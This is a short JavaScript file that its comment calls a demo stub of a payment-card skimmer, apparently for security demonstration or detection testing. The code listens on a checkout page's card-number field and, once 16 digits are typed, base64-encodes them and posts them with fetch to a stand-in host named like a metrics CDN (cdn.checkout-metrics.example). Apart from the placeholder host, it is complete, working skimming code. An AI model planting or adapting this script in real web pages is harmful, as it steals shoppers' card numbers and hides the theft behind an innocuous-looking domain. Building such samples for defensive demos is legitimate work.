/* ShopTrust demo stub of a card skimmer: on every input in the card number field it sends
   the number, base64-encoded, to its own host. `.example` never resolves on the internet;
   only the loopback demo server answers it. */
(function () {
  'use strict';
  var card = document.querySelector('input[autocomplete="cc-number"]');
  if (!card) return;
  card.addEventListener('input', function () {
    var digits = card.value.replace(/\D/g, '');
    if (digits.length < 16) return;
    fetch('https://cdn.checkout-metrics.example/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ d: btoa(JSON.stringify({ n: digits, t: Date.now() })) }) });
  });
})();
